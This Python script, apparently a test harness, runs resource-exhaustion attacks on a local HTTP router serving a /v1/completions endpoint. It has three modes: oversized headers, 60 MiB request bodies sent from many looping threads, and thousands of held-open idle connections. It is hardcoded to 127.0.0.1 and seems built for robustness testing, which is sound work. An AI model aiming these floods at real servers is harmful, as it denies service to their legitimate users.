"""Attacks on a router, each in a separate process, which prints `begun` once its attack is running.

python attackers.py headers|bodies|idle PORT
"""

from __future__ import annotations

import resource
import socket
import sys
import threading
import time
from collections.abc import Callable

MIB = 1 << 20
HEADER_CONNECTIONS, HEADER_BYTES = 8, 64 * MIB
BODIES, BODY_BYTES = 64, 60 * MIB
IDLE = 5000


def connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=60)


def send(connection: socket.socket, head: bytes, nbytes: int) -> bytes:
    """Sends the head and this many letters. Returns the first bytes of the answer."""
    try:
        connection.sendall(head)
        letters = b"a" * MIB
        for _ in range(nbytes // MIB):
            connection.sendall(letters)
        connection.sendall(b'"}')
    except OSError:  # the router has closed the connection
        pass
    try:
        return connection.recv(64)
    except OSError:
        return b""


def headers(port: int) -> None:
    with connect(port) as connection:
        head = b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nX-Long: "
        send(connection, head, HEADER_BYTES)


def bodies(port: int) -> None:
    with connect(port) as connection:
        start = b'{"model": "m", "max_tokens": 1, "prompt": "'
        length = len(start) + BODY_BYTES + 2
        head = (
            "POST /v1/completions HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            f"Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
        )
        send(connection, head.encode() + start, BODY_BYTES)


def again_and_again(attack: Callable[[int], None], port: int) -> None:
    while True:
        try:
            attack(port)
        except OSError:
            time.sleep(0.01)  # refused: the router has no descriptor left


def idle(port: int) -> list[socket.socket]:
    resource.setrlimit(resource.RLIMIT_NOFILE, (IDLE + 100, IDLE + 100))
    kept = []
    for _ in range(IDLE):
        connection = connect(port)
        connection.sendall(b"GET /live HTTP/1.1\r\nHost: x\r\n\r\n")
        kept.append(connection)
    return kept


def main() -> None:
    kind, port = sys.argv[1], int(sys.argv[2])
    kept = []
    if kind == "idle":
        kept = idle(port)
    else:
        attack, count = (headers, HEADER_CONNECTIONS) if kind == "headers" else (bodies, BODIES)
        for _ in range(count):
            threading.Thread(target=again_and_again, args=(attack, port), daemon=True).start()
    print("begun", flush=True)
    sys.stdin.read()
    del kept


if __name__ == "__main__":
    main()
